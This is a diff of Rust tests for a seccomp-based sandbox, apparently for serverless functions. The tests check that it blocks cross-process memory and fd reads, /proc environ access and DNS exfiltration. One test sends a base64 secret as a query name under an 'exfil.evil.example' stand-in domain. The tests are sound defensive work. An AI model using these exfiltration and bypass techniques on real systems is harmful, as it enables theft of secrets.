+    (r, if r < 0 { errno() } else { 0 })
+}
+
+/// The issue's input: `process_vm_readv` and `pidfd_getfd` on a same-uid process.
+fn k8_other_process_memory_and_fds() {
+    let sib = sibling();
+    let pid = sib.0;
+    let s = shield(|b| b);
+    assert_eq!(vm_read(pid), (-1, libc::EPERM), "another process's memory");
+    // SAFETY: pidfd_open/pidfd_getfd with integer arguments.
+    let (r, e) = unsafe {
+        let pidfd = libc::syscall(libc::SYS_pidfd_open, pid, 0);
+        assert!(pidfd >= 0, "pidfd_open: {}", errno());
+        let r = libc::syscall(libc::SYS_pidfd_getfd, pidfd, 1, 0);
+        let e = errno();
+        libc::close(pidfd as i32);
+        (r, e)
+    };
+    assert_eq!((r, e), (-1, libc::EPERM), "another process's fd");
+    // Our own memory stays readable (and the shield itself depends on it).
+    assert_eq!(vm_read(std::process::id() as i32), (16, 0));
+    drop(sib);
+    let evs = events(&s);
+    assert!(
+        evs.iter()
+            .filter(|e| e.policy == PolicyKind::ReadHandler && e.action == Action::Blocked)
+            .count()
+            >= 2,
+        "{evs:?}"
+    );
+}
+both!(
+    k8_other_process_memory_and_fds,
+    super::k8_other_process_memory_and_fds
+);
+
+/// Variant: another process's `/proc/<pid>/environ` and `/proc/<pid>/mem`, and a thread id of
+/// another process passed to `process_vm_readv`'s `/proc/<pid>/task/<tid>` form.
+fn k8_proc_files_of_other_process() {
+    let sib = sibling();
+    let pid = sib.0;
+    let _s = shield(|b| b);
+    for what in ["environ", "mem", "task/{pid}/environ"] {
+        let p = format!("/proc/{pid}/{}", what.replace("{pid}", &pid.to_string()));
+        let e = std::fs::File::open(&p).unwrap_err();
+        assert_eq!(e.raw_os_error(), Some(libc::EACCES), "{p}");
+    }
+    drop(sib);
+}
+both!(
+    k8_proc_files_of_other_process,
+    super::k8_proc_files_of_other_process
+);
+
+// ---------------------------------------------------------------------------------------------
+// Kind 12: the report claims no more than is true.
+// ---------------------------------------------------------------------------------------------
+
+/// `is_fully_enforced` is true when every policy is enforced or deliberately `allow`.
+fn k12_allow_is_not_a_degradation() {
+    // (Under notify, blocking tmp writes is only partly enforced: tmp is allowed too.)
+    let s = shield(|b| b.outbound(Mode::Allow).tmp(Mode::Allow));
+    let r = s.enforcement().unwrap();
+    assert!(r.is_fully_enforced(), "{r}");
+}
+both!(
+    k12_allow_is_not_a_degradation,
+    super::k12_allow_is_not_a_degradation
+);
+
+/// `tighten(ReadWriteTmp, Block)` claims only what is filtered: if it says Block, a `mkdir`
+/// and an `unlink` in the tmp root are refused too.
+fn k12_tighten_tmp_is_honest() {
+    let (_, tmp) = dirs();
+    std::fs::write(tmp.join("victim"), b"x").unwrap();
+    let s = shield(|b| b.tmp(Mode::Allow));
+    match s.tighten(PolicyKind::ReadWriteTmp, Mode::Block) {
+        None => {}
+        Some(m) => {
+            assert_eq!(m, Mode::Block);
+            assert_eq!(
+                std::fs::create_dir(tmp.join("d"))
+                    .unwrap_err()
+                    .raw_os_error(),
+                Some(libc::EACCES)
+            );
+            assert_eq!(
+                std::fs::remove_file(tmp.join("victim"))
+                    .unwrap_err()
+                    .raw_os_error(),
+                Some(libc::EACCES)
+            );
+        }
+    }
+}
+both!(k12_tighten_tmp_is_honest, super::k12_tighten_tmp_is_honest);
+
+/// `sendmmsg` whose `msg_len` fields are read-only: the shield writes them only through the
+/// checked copy, so the call returns (a count or EFAULT) instead of crashing the process.
+fn k12_sendmmsg_readonly_vector() {
+    let ok = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let (ip, port) = v4(ok.local_addr().unwrap());
+    let _s = shield(|b| b);
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    // SAFETY: one anonymous page, filled, then made read-only; every pointer in it stays valid
+    // for the call.
+    let r = unsafe {
+        let page = libc::mmap(
+            std::ptr::null_mut(),
+            4096,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
+            -1,
+            0,
+        ) as *mut u8;
+        assert_ne!(page as *mut libc::c_void, libc::MAP_FAILED);
+        let sa = page.add(1024) as *mut libc::sockaddr_in;
+        *sa = sockaddr_in(ip, port, libc::AF_INET as u16);
+        let data = page.add(2048);
+        *data = b'x';
+        let iov = page.add(1536) as *mut libc::iovec;
+        *iov = libc::iovec {
+            iov_base: data.cast(),
+            iov_len: 1,
+        };
+        let v = page as *mut libc::mmsghdr;
+        let mut m: libc::mmsghdr = std::mem::zeroed();
+        m.msg_hdr.msg_name = sa.cast();
+        m.msg_hdr.msg_namelen = 16;
+        m.msg_hdr.msg_iov = iov;
+        m.msg_hdr.msg_iovlen = 1;
+        *v = m;
+        assert_eq!(libc::mprotect(page.cast(), 4096, libc::PROT_READ), 0);
+        libc::sendmmsg(sock.as_raw_fd(), v, 1, 0)
+    };
+    assert!(r == 1 || (r == -1 && errno() == libc::EFAULT), "r = {r}");
+}
+both!(
+    k12_sendmmsg_readonly_vector,
+    super::k12_sendmmsg_readonly_vector
+);
+
+/// After a refused install, `tighten` returns `None` (nothing can be tightened).
+#[test]
+fn k12_tighten_after_refused_install() {
+    common::case("k12_tighten_after_refused_install", || {
+        // Make installing a filter fail with EPERM (probing still works): the install is
+        // refused after the shield prepared everything else.
+        use fnshield::filter::{Action as F, ArgCmp, Filter, FilterSpec, Rule, SyscallPlan};
+        let spec = FilterSpec {
+            arch: fnshield::arch::AUDIT_ARCH,
+            syscalls: vec![SyscallPlan {
+                nr: libc::SYS_seccomp,
+                branches: vec![(
+                    vec![Rule {
+                        arg: 0,
+                        cmp: ArgCmp::Eq(1), // SECCOMP_SET_MODE_FILTER
+                    }],
+                    F::Errno(libc::EPERM as u16),
+                )],
+                default: F::Allow,
+            }],
+            exempt_ip: None,
+            exempt_actions: vec![],
+            otherwise: F::Allow,
+        };
+        let f = Filter::try_from(&spec).unwrap();
+        // SAFETY: installs a filter built from valid instructions in this test-only process.
+        unsafe {
+            assert_eq!(libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), 0);
+            let prog = libc::sock_fprog {
+                len: f.len() as u16,
+                filter: f.insns().as_ptr() as *mut libc::sock_filter,
+            };
+            assert_eq!(libc::syscall(libc::SYS_seccomp, 1, 0, &prog as *const _), 0);
+        }
+        let (task, tmp) = dirs();
+        let env = fnshield::policy::Env::from_pairs([("LAMBDA_TASK_ROOT", task.to_str().unwrap())]);
+        let s = Shield::builder()
+            .env(env)
+            .tmp_root(tmp.to_str().unwrap())
+            .sinks(Vec::<String>::new())
+            .allow_runtime_tightening(true)
+            .build()
+            .unwrap();
+        let report = s.install().expect("best effort");
+        assert_eq!(report.interceptor, Mechanism::None, "{report}");
+        for p in [
+            PolicyKind::OutboundConnectivity,
+            PolicyKind::ReadWriteTmp,
+            PolicyKind::CreateChildProcess,
+            PolicyKind::ReadHandler,
+        ] {
+            assert_eq!(s.tighten(p, Mode::Block), None, "{p:?}");
+        }
+    });
+}
+
+// ---------------------------------------------------------------------------------------------
+// Residual: DNS queries through the always-reachable resolver carry data out. Under outbound
+// block, a datagram sent with an explicit address to a resolver must be a query for an allowed
+// name.
+// ---------------------------------------------------------------------------------------------
+
+/// Exfiltration in query names: refused by `sendto`, `sendmsg` and `sendmmsg`; queries for
+/// allowed names (an allowed host, an AWS endpoint) still go out.
+fn dns_exfiltration_by_query_name() {
+    let rip = per_ic("127.0.0.158", "127.0.0.159");
+    let resolver = bind53(rip);
+    let s = shield(|b| {
+        b.resolv_conf(format!("nameserver {rip}\n"))
+            .allow_destination("api.allowed.test:443")
+    });
+    let to: SocketAddr = format!("{rip}:53").parse().unwrap();
+    let (ip, _) = v4(to);
+    let sa = sockaddr_in(ip, 53, libc::AF_INET as u16);
+    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let send = |q: &[u8]| {
+        sendto_raw(
+            sock.as_raw_fd(),
+            q,
+            0,
+            (&sa as *const libc::sockaddr_in).cast(),
+            16,
+        )
+    };
+    let leak = dns_query("c2VjcmV0LWtleQ.exfil.evil.example");
+    assert_eq!(send(&leak), (-1, libc::EPERM), "sendto");
+    assert_eq!(send(b"not dns at all"), (-1, libc::EPERM), "not a query");
+    // SAFETY: sendmsg/sendmmsg with stack buffers that outlive the calls.
+    unsafe {
+        let mut sa_m = sa;
+        let mut data = leak.clone();
+        let mut iov = libc::iovec {
+            iov_base: data.as_mut_ptr().cast(),
+            iov_len: data.len(),
+        };
+        let mut msg: libc::msghdr = std::mem::zeroed();
+        msg.msg_name = (&mut sa_m as *mut libc::sockaddr_in).cast();
+        msg.msg_namelen = 16;
+        msg.msg_iov = &mut iov;
+        msg.msg_iovlen = 1;
+        assert_eq!(
+            (libc::sendmsg(sock.as_raw_fd(), &msg, 0), errno()),
+            (-1, libc::EPERM),
+            "sendmsg"
+        );
+        let mut v: [libc::mmsghdr; 1] = std::mem::zeroed();
+        v[0].msg_hdr = msg;
+        assert_eq!(
+            (
+                libc::sendmmsg(sock.as_raw_fd(), v.as_mut_ptr(), 1, 0),
+                errno()
+            ),
+            (-1, libc::EPERM),
+            "sendmmsg"
+        );
+    }
+    assert!(nothing_arrived(&resolver), "no query left");
+    resolver.set_nonblocking(false).unwrap();
+    for name in ["api.allowed.test", "sqs.us-east-1.amazonaws.com"] {
+        let q = dns_query(name);
+        assert_eq!(send(&q), (q.len() as i64, 0), "{name} is allowed");
+        let mut b = [0u8; 512];
+        let (n, _) = resolver.recv_from(&mut b).unwrap();
+        assert_eq!(&b[..n], &q[..], "the query arrives unchanged");
+    }
+    let evs = events(&s);
+    assert!(evs.iter().any(|e| e.action == Action::Blocked
+        && matches!(&e.details, Details::Bypass { what } if what == "DNS query for c2vjcmv0lwtleq.exfil.evil.example")), "{evs:?}");
+}
+both!(
+    dns_exfiltration_by_query_name,
+    super::dns_exfiltration_by_query_name
+);
+
+// ---------------------------------------------------------------------------------------------
+// Kind 11: alert mode behaves exactly as no shield, plus one event per violation.
+// ---------------------------------------------------------------------------------------------
+
+/// clone3 (a process), io_uring_setup and open_by_handle_at run in alert mode (ENOSYS/EPERM
+/// before), and what they could hide is reported.
+fn k11_alert_mode_kernel_decisions() {
+    let (task, _) = dirs();
+    let s = shield(|b| b.mode(Mode::Alert));
+    // clone3 creating a process, as fork does.
+    let mut args = [0u64; 11];
+    args[4] = libc::SIGCHLD as u64; // exit_signal
+                                    // SAFETY: clone3 without CLONE_VM: the child is a copy that exits at once.
+    let pid = unsafe { libc::syscall(libc::SYS_clone3, args.as_mut_ptr(), 88) };
+    if pid == 0 {
+        // SAFETY: leave the child without running destructors.
+        unsafe { libc::_exit(7) };
+    }
+    assert!(pid > 0, "clone3: errno {}", errno());
+    let mut status = 0;
+    // SAFETY: reaping our child.
+    unsafe { libc::waitpid(pid as i32, &mut status, 0) };
+    assert_eq!(libc::WEXITSTATUS(status), 7);
+    // io_uring_setup.
+    let mut params = [0u8; 120];
+    // SAFETY: io_uring_setup with a zeroed io_uring_params.
+    let ring = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, params.as_mut_ptr()) };
+    let e = errno();
+    assert!(
+        ring >= 0 || e != libc::ENOSYS,
+        "io_uring_setup: ENOSYS in alert mode"
+    );
+    if ring >= 0 {
+        // SAFETY: closing our fd.
+        unsafe { libc::close(ring as i32) };
+    }
+    // open_by_handle_at (root has CAP_DAC_READ_SEARCH, as without a shield).
+    let boot = std::ffi::CString::new(task.join("bootstrap").to_str().unwrap()).unwrap();
+    // SAFETY: name_to_handle_at/open_by_handle_at with a correctly sized file_handle buffer.
+    let content = unsafe {
+        let mut fh = [0u32; 2 + 32];
+        fh[0] = 128;
+        let mut mount_id = 0;
+        let r = libc::syscall(
+            libc::SYS_name_to_handle_at,
+            libc::AT_FDCWD,
+            boot.as_ptr(),
+            fh.as_mut_ptr(),
+            &mut mount_id,
+            0,
+        );
+        assert_eq!(r, 0, "name_to_handle_at: {}", errno());
+        let mnt = libc::open(c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
+        let fd = libc::syscall(
+            libc::SYS_open_by_handle_at,
+            mnt,
+            fh.as_mut_ptr(),
+            libc::O_RDONLY,
+        );
+        assert!(fd >= 0, "open_by_handle_at: errno {}", errno());
+        let mut b = [0u8; 64];
+        let n = libc::read(fd as i32, b.as_mut_ptr().cast(), 64);
+        libc::close(fd as i32);
+        libc::close(mnt);
+        b[..n.max(0) as usize].to_vec()
+    };
+    assert_eq!(content, b"secret code");
+    let evs = events(&s);
+    if ring >= 0 {
+        assert!(
+            evs.iter()
+                .any(|e| e.action == Action::Alerted && e.syscall == Some("io_uring_setup")),
+            "{evs:?}"
+        );
+    }
+    assert!(evs.iter().any(|e| e.policy == PolicyKind::ReadHandler
+        && e.action == Action::Alerted
+        && e.syscall == Some("open_by_handle_at")
+        && matches!(&e.details, Details::Path { path, .. } if path.ends_with("task/bootstrap"))), "{evs:?}");
+    assert!(!evs.iter().any(|e| e.action == Action::Blocked), "{evs:?}");
+}
+both!(
+    k11_alert_mode_kernel_decisions,
+    super::k11_alert_mode_kernel_decisions
+);
